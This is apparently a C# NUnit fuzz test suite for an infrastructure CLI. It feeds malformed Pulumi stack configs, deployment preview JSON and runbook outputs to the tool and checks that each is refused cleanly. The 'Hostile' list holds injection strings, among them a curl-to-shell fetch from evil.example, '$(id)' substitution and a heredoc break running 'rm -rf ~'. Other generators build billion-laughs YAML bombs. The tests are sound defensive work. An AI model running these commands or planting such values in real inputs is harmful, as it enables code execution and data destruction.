// CA1861: the generators pick from small inline tables; they are built once per case, which is the point of a fuzz case.
#pragma warning disable CA1861

using System.Diagnostics;
using System.Globalization;
using System.Net;
using System.Numerics;
using System.Text;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using Boma.Infra.Cli;
using NUnit.Framework;
using Boma.Infra.Tests.Cli;

namespace Boma.Infra.Tests.Acceptance;

/// <summary>
/// Property suite: generated malformed stack configs, preview documents and output documents, from a
/// fixed seed so a failure reproduces. Every case must end in exit 1 or 2 with one summary line (config problems
/// may list one indented line per problem), no stack trace, within 2 s and 300 MB. The 2 s is a per-case timeout
/// (the case fails when it is hit), the 300 MB a limit on what the case allocates; neither is a measured figure.
/// The tally per class is printed for the issue's closing note.
/// </summary>
[TestFixture]
[NonParallelizable] // allocation is counted process-wide for the async plan
public sealed partial class FuzzTests
{
    private const int Seed = 20_261_102;
    private static readonly TimeSpan PerCase = TimeSpan.FromSeconds(2);
    private const long MemoryLimit = 300L << 20;

    private static readonly string Offsite = File.ReadAllText(Path.Combine(PlanRunner.RepoRoot, "Pulumi.offsite.yaml"));
    private static readonly string Cluster = File.ReadAllText(Path.Combine(PlanRunner.RepoRoot, "Pulumi.cluster.yaml"));
    private static readonly string Compliant = File.ReadAllText(TestPaths.GuardData("compliant.json"));

    private sealed class Tally(string name)
    {
        public int Tried { get; set; }

        public int Rejected { get; set; }

        public double WorstMs { get; set; }

        public long WorstBytes { get; set; }

        public override string ToString() => string.Create(CultureInfo.InvariantCulture,
            $"{name,-28} tried {Tried,5}  rejected cleanly {Rejected,5}  worst {WorstMs,7:F1} ms  worst allocated {WorstBytes / (1024.0 * 1024.0),7:F1} MB");
    }

    private readonly List<Tally> _tallies = [];

    [OneTimeTearDown]
    public void Report()
    {
        foreach (var t in _tallies)
        {
            TestContext.Progress.WriteLine("fuzz: " + t);
        }

        // The allocation figure above is per case; this is the whole test process at its peak (an upper bound per case).
        using var self = Process.GetCurrentProcess();
        TestContext.Progress.WriteLine(string.Create(CultureInfo.InvariantCulture,
            $"fuzz: {_tallies.Sum(t => t.Tried)} cases, {_tallies.Sum(t => t.Rejected)} rejected cleanly; test process peak working set {self.PeakWorkingSet64 / (1024.0 * 1024.0):F0} MB"));
    }

    [GeneratedRegex(@"^\s+at \S+\(|Exception:|\bat System\.", RegexOptions.Multiline)]
    private static partial Regex TraceLine();

    /// <summary>Runs one case under the time and memory bounds and checks the clean-refusal shape.</summary>
    private static void Check(Tally tally, string label, Func<(int Exit, string Stdout, string Stderr)> run, int[] exits, bool listAllowed)
    {
        tally.Tried++;
        var task = Task.Run(() =>
        {
            var before = GC.GetTotalAllocatedBytes(precise: true);
            var clock = Stopwatch.StartNew();
            var result = run();
            return (result, Bytes: GC.GetTotalAllocatedBytes(precise: true) - before, clock.Elapsed.TotalMilliseconds);
        });
        Assert.That(task.Wait(PerCase), Is.True, $"{label}: did not finish within {PerCase.TotalSeconds} s");
        var ((exit, stdout, stderr), bytes, ms) = task.Result;
        tally.WorstMs = Math.Max(tally.WorstMs, ms);
        tally.WorstBytes = Math.Max(tally.WorstBytes, bytes);
        var lines = stderr.TrimEnd().Split('\n');
        Assert.Multiple(() =>
        {
            Assert.That(exits, Does.Contain(exit), $"{label}: exit {exit}\n{stderr}");
            Assert.That(bytes, Is.LessThan(MemoryLimit), $"{label}: allocated {bytes} bytes");
            Assert.That(stderr, Does.Not.Match(TraceLine().ToString()), $"{label}: stack trace\n{stderr}");
            Assert.That(lines[0], Is.Not.Empty, $"{label}: no message");
            Assert.That(stderr, Does.Not.Contain("internal error"), $"{label}: refused only by the catch-all\n{stderr}");
            // A list is a summary line plus indented problem lines (config) or one "guard: " line per violation.
            Assert.That(listAllowed ? lines.Skip(1).All(l => l.StartsWith("  ", StringComparison.Ordinal) || l.StartsWith("guard: ", StringComparison.Ordinal)) : lines.Length == 1, Is.True, $"{label}: not one line\n{stderr}");
        });
        if (exits.Contains(exit))
        {
            tally.Rejected++;
        }

        _ = stdout;
    }

    private Tally NewTally(string name)
    {
        var t = new Tally(name);
        _tallies.Add(t);
        return t;
    }

    // ---- stack configs -------------------------------------------------------------------------------------------

    private static readonly string[] OffsiteKeys = [.. Boma.Infra.Config.ConfigSchema.Keys("offsite")];
    private static readonly string[] ClusterKeys = [.. Boma.Infra.Config.ConfigSchema.Keys("cluster")];

    private static string Mutate(Random r, string name)
    {
        for (var attempt = 0; ; attempt++)
        {
            var chars = name.ToCharArray().ToList();
            var i = r.Next(chars.Count);
            switch (r.Next(5))
            {
                case 0: chars[i] = char.IsUpper(chars[i]) ? char.ToLowerInvariant(chars[i]) : char.ToUpperInvariant(chars[i]); break;
                case 1 when chars.Count > 1: (chars[i], chars[(i + 1) % chars.Count]) = (chars[(i + 1) % chars.Count], chars[i]); break;
                case 2 when chars.Count > 2: chars.RemoveAt(i); break;
                case 3: chars.Insert(i, (char)('a' + r.Next(26))); break;
                default: chars.Add('s'); break;
            }

            var result = new string([.. chars]);
            if (result != name && !OffsiteKeys.Contains(result) && !ClusterKeys.Contains(result))
            {
                return result;
            }
        }
    }

    private static string SloppyCidr(Random r)
    {
        var a = r.Next(1, 224);
        var b = r.Next(256);
        return r.Next(14) switch
        {
            0 => $"0{a}.{b}.1.1/32",                                  // octal-looking octet
            1 => $"{a}.{b}/32",                                        // shorthand
            2 => $"{(uint)r.Next()}/32",                               // a bare number
            3 => $"0x{a:x}.{b}.1.1/32",                                // hex octet
            4 => $"fe80::{a:x}%eth{b}/128",                            // zone id
            5 => $"::ffff:{a}.{b}.0.0/112",                            // embedded IPv4
            6 => $"{a}.{b}.1.1/{r.Next(33, 200)}",                    // prefix too long
            7 => $"{a}.{b}.1.{r.Next(1, 255)}/{r.Next(8, 24)}",       // host bits
            8 => $"{a}.{b}.1.1/0{r.Next(1, 32)}",                      // leading zero prefix
            9 => $"{a}. {b}.1.1/32",                                   // inner space
            10 => $"{a}.{b}.1.1/32;x",                                 // trailing junk
            11 => $"{a}.{b}.1.{256 + r.Next(1000)}/32",                // octet over 255
            12 => "::/0",
            _ => $"{a}.{b}.1.1",                                       // no prefix
        };
    }

    private static string SloppyIp(Random r)
    {
        var a = r.Next(1, 224);
        var b = r.Next(256);
        return r.Next(10) switch
        {
            0 => $"0{a}.{b}.1.1",
            1 => $"{a}.{b}",
            2 => ((uint)r.Next()).ToString(CultureInfo.InvariantCulture),
            3 => $"0x{a:x}.{b}.1.1",
            4 => $"fe80::{a:x}%eth{b}",
            5 => $"::ffff:{a}.{b}.0.1",
            6 => $"{a}.{b}.1.{256 + r.Next(1000)}",
            7 => $"{a}.{b}.1.1/32",
            8 => $"{a}.{b}.1.1.{b}",
            _ => $"{a}.{b}.1.1:22",
        };
    }

    /// <summary>Splits a whole address family into 2..32 random networks: spelt differently, the same internet.</summary>
    private static List<string> Partition(Random r, bool v6)
    {
        var bits = v6 ? 128 : 32;
        var pieces = new List<(BigInteger Start, int Prefix)> { (0, 0) };
        var splits = r.Next(1, 32);
        for (var s = 0; s < splits; s++)
        {
            var i = r.Next(pieces.Count);
            var (start, prefix) = pieces[i];
            if (prefix >= bits - 1)
            {
                continue;
            }

            pieces[i] = (start, prefix + 1);
            pieces.Add((start + (BigInteger.One << (bits - prefix - 1)), prefix + 1));
        }

        return pieces.OrderBy(_ => r.Next()).Select(p =>
        {
            var bytes = p.Start.ToByteArray(isUnsigned: true, isBigEndian: true);
            var full = new byte[bits / 8];
            bytes.CopyTo(full, full.Length - bytes.Length);
            return $"{new IPAddress(full)}/{p.Prefix}";
        }).ToList();
    }

    private static string Replace(string yaml, string from, string to)
    {
        Assert.That(yaml, Does.Contain(from));
        return yaml.Replace(from, to, StringComparison.Ordinal);
    }

    private static string BadConfig(Random r, int kind, out string stack)
    {
        stack = r.Next(2) == 0 ? "offsite" : "cluster";
        var yaml = stack == "offsite" ? Offsite : Cluster;
        var lines = yaml.Split('\n').ToList();
        var keyLines = lines.Select((l, i) => (l, i)).Where(x => Regex.IsMatch(x.l, @"^  boma:\w+: \S")).Select(x => x.i).ToList();
        switch (kind)
        {
            case 0: // anchors and aliases, including billion laughs
            {
                var depth = r.Next(2, 14);
                var width = r.Next(2, 12);
                var extra = new StringBuilder($"  boma:l0: &a0 [{string.Join(", ", Enumerable.Repeat("lol", width))}]\n");
                for (var d = 1; d < depth; d++)
                {
                    extra.Append(CultureInfo.InvariantCulture, $"  boma:l{d}: &a{d} [{string.Join(", ", Enumerable.Repeat($"*a{d - 1}", width))}]\n");
                }

                return r.Next(3) == 0 ? yaml.TrimEnd() + "\n  boma:self: &s [*s]\n" : yaml.TrimEnd() + "\n" + extra;
            }

            case 1: // deep nesting, flow or block
            {
                var depth = r.Next(33, 4000);
                return r.Next(2) == 0
                    ? yaml.TrimEnd() + $"\n  boma:deep: {new string('[', depth)}{new string(']', r.Next(0, depth + 1))}\n"
                    : yaml.TrimEnd() + "\n  boma:deep:\n" + string.Concat(Enumerable.Range(0, Math.Min(depth, 200)).Select(d => new string(' ', 4 + (2 * d)) + $"k{d}:\n")) + new string(' ', 4 + 400) + "v: 1\n";
            }

            case 2: // non-scalar keys
                return yaml.TrimEnd() + (r.Next(2) == 0 ? $"\n  ? [{r.Next()}, x]\n  : y\n" : $"\n  {{[boma:k{r.Next()}]: 1}}: 2\n");
            case 3: // unterminated flow collections and quotes, tab indentation
            {
                var i = keyLines[r.Next(keyLines.Count)];
                var key = lines[i][..(lines[i].IndexOf(": ", StringComparison.Ordinal) + 2)];
                lines[i] = key + (r.Next(4) switch { 0 => "[a, b", 1 => "{a: b", 2 => "\"unterminated", _ => "'x" });
                if (r.Next(3) == 0)
                {
                    lines[i] = "\t" + lines[i].TrimStart() + " ]";
                }

                return string.Join('\n', lines);
            }

            case 4: // a duplicated key
            {
                var i = keyLines[r.Next(keyLines.Count)];
                lines.Insert(r.Next(i + 1, lines.Count), lines[i]);
                return string.Join('\n', lines);
            }

            case 5: // a misspelt top-level key
            {
                var keys = stack == "offsite" ? OffsiteKeys : ClusterKeys;
                return yaml.TrimEnd() + $"\n  boma:{Mutate(r, keys[r.Next(keys.Length)])}: x\n";
            }

            case 6: // a misspelt nested field
            {
                var (from, field) = stack == "offsite"
                    ? r.Next(3) switch
                    {
                        0 => ("    ownerEmail: admin@example.org\n", "ownerEmail"),
                        1 => ("    acmeEmail: admin@example.org\n", "acmeEmail"),
                        _ => ("    repository: sftp://", "repository"),
                    }
                    : r.Next(3) switch
                    {
                        0 => ("    bridge: vmbr0\n", "bridge"),
                        1 => ("    datastore: local-lvm\n", "datastore"),
                        _ => ("      role: storage\n", "role"),
                    };
                var indent = from[..(from.Length - from.TrimStart().Length)];
                return Replace(yaml, from, $"{indent}{Mutate(r, field)}: x\n{from}");
            }

            case 7: // sloppy or too-wide SSH sources
                if (stack == "offsite")
                {
                    var sources = r.Next(3) == 0 ? Partition(r, r.Next(2) == 0) : [SloppyCidr(r)];
                    return Replace(yaml, "    - 203.0.113.7/32\n", string.Concat(sources.Select(s => $"    - \"{s}\"\n")));
                }
                else
                {
                    var sources = r.Next(3) == 0 ? Partition(r, false) : [SloppyCidr(r)];
                    return Replace(yaml, "      - 192.168.10.0/24\n", string.Concat(sources.Select(s => $"      - \"{s}\"\n")));
                }

            case 8: // invalid UTF-8 is produced by the caller from this marker
                return yaml.Insert(r.Next(yaml.Length), "\uFFFF");
            case 9: // several documents, tags
                return r.Next(2) == 0 ? yaml + "\n---\nconfig: {}\n" : Replace(yaml, "boma:domain: ", $"boma:domain: !{(r.Next(2) == 0 ? "!binary" : "custom")} ");
            default: // a secure: value inside a plain structured key
                return stack == "offsite"
                    ? Replace(yaml, "    ownerEmail: admin@example.org\n", "    ownerEmail:\n      secure: v1:AAAA\n")
                    : Replace(yaml, "    bridge: vmbr0\n", "    bridge:\n      secure: v1:AAAA\n");
        }
    }

    private static readonly string[] ConfigClasses =
    [
        "config: anchors/aliases", "config: deep nesting", "config: non-scalar keys", "config: malformed YAML",
        "config: duplicate keys", "config: misspelt keys", "config: misspelt fields", "config: addresses",
        "config: invalid UTF-8", "config: documents/tags", "config: nested secure",
    ];

    [Test]
    public void Malformed_stack_configs_are_refused_cleanly()
    {
        var r = new Random(Seed);
        var tallies = ConfigClasses.Select(NewTally).ToArray();
        var dirs = new Dictionary<string, string>
        {
            ["offsite"] = PlanRunner.TempProject(Offsite, "offsite"),
            ["cluster"] = PlanRunner.TempProject(Cluster, "cluster"),
        };
        try
        {
            for (var n = 0; n < 770; n++)
            {
                var kind = n % ConfigClasses.Length;
                var yaml = BadConfig(r, kind, out var stack);
                var bytes = Encoding.UTF8.GetBytes(yaml);
                if (kind == 8)
                {
                    // The marker's three bytes become an invalid sequence.
                    var at = yaml.IndexOf('\uFFFF', StringComparison.Ordinal);
                    var offset = Encoding.UTF8.GetByteCount(yaml.AsSpan(0, at));
                    bytes[offset] = (byte)(0x80 + r.Next(0x40));
                    bytes[offset + 1] = 0xFF;
                }

                File.WriteAllBytes(Path.Combine(dirs[stack], $"Pulumi.{stack}.yaml"), bytes);
                Check(tallies[kind], $"{ConfigClasses[kind]} #{n} ({stack})",
                    () => PlanRunner.RunAsync(dirs[stack], "plan", stack).GetAwaiter().GetResult(), [1], listAllowed: true);
            }
        }
        finally
        {
            foreach (var dir in dirs.Values)
            {
                Directory.Delete(dir, recursive: true);
            }
        }
    }

    // ---- preview documents ---------------------------------------------------------------------------------------

    private static readonly string[] PreviewClasses =
    [
        "preview: unknown op", "preview: duplicate keys", "preview: wrong document kind", "preview: truncated",
        "preview: wrong types", "preview: SSH coverage", "preview: deep nesting", "preview: not an object",
        "preview: invalid UTF-8",
    ];

    private static string BadPreview(Random r, int kind)
    {
        var doc = JsonNode.Parse(Compliant)!.AsObject();
        var steps = doc["steps"]!.AsArray();
        var step = steps[r.Next(steps.Count)]!.AsObject();
        switch (kind)
        {
            case 0:
                var ops = new[] { "Create", "CREATE", "same ", " create", "upsert", "", "delete\u0000", "créate", "replace\n" };
                step["op"] = ops[r.Next(ops.Length)] + (r.Next(3) == 0 ? r.Next().ToString(CultureInfo.InvariantCulture) : "");
                return doc.ToJsonString();
            case 1:
            {
                var json = doc.ToJsonString();
                var keys = new[] { "\"op\":", "\"urn\":", "\"steps\":", "\"protect\":", "\"sourceIps\":", "\"inputs\":" };
                var key = keys[r.Next(keys.Length)];
                var positions = Regex.Matches(json, Regex.Escape(key)).Select(m => m.Index).ToList();
                var at = positions[r.Next(positions.Count)];
                return json.Insert(at, key + (r.Next(2) == 0 ? "\"x\"," : "null,"));
            }

            case 2:
            {
                var wrong = new JsonObject
                {
                    [new[] { "version", "deployment", "resources", "checkpoint", "Steps", "step", "latest" }[r.Next(7)]] = r.Next(2) == 0 ? new JsonObject() : 3,
                };
                if (r.Next(2) == 0)
                {
                    wrong["steps"] = steps.DeepClone();
                }

                return wrong.ToJsonString();
            }

            case 3:
            {
                var json = doc.ToJsonString();
                return json[..r.Next(0, json.LastIndexOf('}'))];
            }

            case 4:
            {
                var field = new[] { "op", "urn", "oldState", "newState", "replaceReasons" }[r.Next(5)];
                JsonNode bad = r.Next(3) switch { 0 => 42, 1 => new JsonArray(1, 2), _ => true };
                if (field == "oldState" || field == "newState")
                {
                    step[field] = r.Next(2) == 0 ? "text" : bad;
                }
                else
                {
                    step[field] = field == "replaceReasons" ? new JsonArray(1) : bad;
                }

                return doc.ToJsonString();
            }

            case 5:
            {
                var firewall = steps.Single(s => s!["urn"]!.GetValue<string>().Contains("firewall:Firewall", StringComparison.Ordinal))!;
                var rules = firewall["newState"]!["inputs"]!["rules"]!.AsArray();
                var sources = r.Next(4) == 0 ? [SloppyCidr(r)] : Partition(r, r.Next(2) == 0);
                var descriptions = new[] { "break-glass: WAN ssh", "admin", "", "BREAK-GLASS:" };
                foreach (var chunk in sources.Chunk(r.Next(1, 5)))
                {
                    rules.Add(new JsonObject
                    {
                        ["description"] = descriptions[r.Next(descriptions.Length)],
                        ["direction"] = "in",
                        ["protocol"] = "tcp",
                        ["port"] = new[] { "22", "any", "1-1024", "20-30" }[r.Next(4)],
                        ["sourceIps"] = new JsonArray([.. chunk.Select(s => (JsonNode)s)]),
                    });
                }

                return doc.ToJsonString();
            }

            case 6:
            {
                var depth = r.Next(65, 20_000);
                return "{\"steps\":[" + string.Concat(Enumerable.Repeat("{\"a\":[", depth / 2)) + "]}";
            }

            case 7:
                return new[] { "[]", "null", "42", "\"steps\"", "   ", "", "true", "[{\"steps\":[]}]" }[r.Next(8)];
            default:
                var text = doc.ToJsonString();
                return text.Insert(r.Next(text.Length), "\uFFFF");
        }
    }

    [Test]
    public void Malformed_preview_documents_are_refused_cleanly()
    {
        var r = new Random(Seed + 1);
        var tallies = PreviewClasses.Select(NewTally).ToArray();
        var file = Path.Combine(Path.GetTempPath(), $"boma-fuzz-{Guid.NewGuid():N}.json");
        try
        {
            for (var n = 0; n < 1530; n++)
            {
                var kind = n % PreviewClasses.Length;
                var json = BadPreview(r, kind);
                var bytes = Encoding.UTF8.GetBytes(json);
                if (kind == 8)
                {
                    var offset = Encoding.UTF8.GetByteCount(json.AsSpan(0, json.IndexOf('\uFFFF', StringComparison.Ordinal)));
                    bytes[offset] = (byte)(0xC0 + r.Next(2));
                    bytes[offset + 1] = (byte)r.Next(0x80);
                }

                File.WriteAllBytes(file, bytes);
                // An SSH-coverage case is a violation (1); everything else is unreadable (2).
                Check(tallies[kind], $"{PreviewClasses[kind]} #{n}", () =>
                {
                    var run = GuardRun.Of(file);
                    return (run.ExitCode, run.Stdout, run.Stderr);
                }, kind == 5 ? [1, 2] : [2], listAllowed: kind == 5);
            }
        }
        finally
        {
            File.Delete(file);
        }
    }

    // ---- output documents (runbook) ------------------------------------------------------------------------------

    private static readonly string[] Hostile =
    [
        "; curl https://evil.example | sh", "$(id)", "`id`", "\nEOF\nrm -rf ~\n", "| x |", "](https://evil.example)", "<script>",
        "\u202Eevil", "a\u0000b", "a b", "'", "\"", "\\", "%0a", "&&", "#", "*", "~", "{{managementUrl}}",
    ];

    private static readonly string[] OutputClasses = ["outputs: injected text", "outputs: wrong types", "outputs: sloppy addresses", "outputs: broken documents"];

    private static string BadOutputs(Random r, int kind)
    {
        var outputs = RunbookAndOutTests.Outputs();
        var names = outputs.Select(p => p.Key).ToArray();
        var name = names[r.Next(names.Length)];
        switch (kind)
        {
            case 0:
                var value = outputs[name]!.GetValue<string>();
                var evil = Hostile[r.Next(Hostile.Length)];
                outputs[name] = r.Next(3) switch { 0 => evil + value, 1 => value + evil, _ => value.Insert(r.Next(value.Length), evil) };
                return outputs.ToJsonString();
            case 1:
                outputs[name] = r.Next(4) switch { 0 => r.Next(), 1 => true, 2 => new JsonArray("x"), _ => new JsonObject { ["v"] = "x" } };
                return outputs.ToJsonString();
            case 2:
                outputs[new[] { "askariIpv4", "askariIpv6", "askariMeshIp" }[r.Next(3)]] = SloppyIp(r);
                return outputs.ToJsonString();
            default:
                var json = outputs.ToJsonString();
                return r.Next(3) switch
                {
                    0 => json[..r.Next(json.Length - 1)],
                    1 => json.Insert(1, $"\"{name}\":\"x\","),
                    _ => new[] { "[]", "null", "{}", "\"x\"" }[r.Next(4)],
                };
        }
    }

    [Test]
    public void Malformed_output_documents_are_refused_cleanly()
    {
        var r = new Random(Seed + 2);
        var tallies = OutputClasses.Select(NewTally).ToArray();
        var dir = Directory.CreateTempSubdirectory("boma-fuzz-runbook-").FullName;
        try
        {
            for (var n = 0; n < 800; n++)
            {
                var kind = n % OutputClasses.Length;
                var json = BadOutputs(r, kind);
                Check(tallies[kind], $"{OutputClasses[kind]} #{n}: {json}", () =>
                {
                    using var input = new StringReader(json);
                    using var output = new StringWriter();
                    using var error = new StringWriter();
                    var code = RunbookCommand.Run(["offsite", "--out", "rb.md", "--with-secrets"], input, false, output, error, dir);
                    return (code, output.ToString(), error.ToString());
                }, [2], listAllowed: false);
                Assert.That(Directory.GetFileSystemEntries(dir), Is.Empty, $"case #{n} left a file: {json}");
            }
        }
        finally
        {
            Directory.Delete(dir, recursive: true);
        }
    }
}
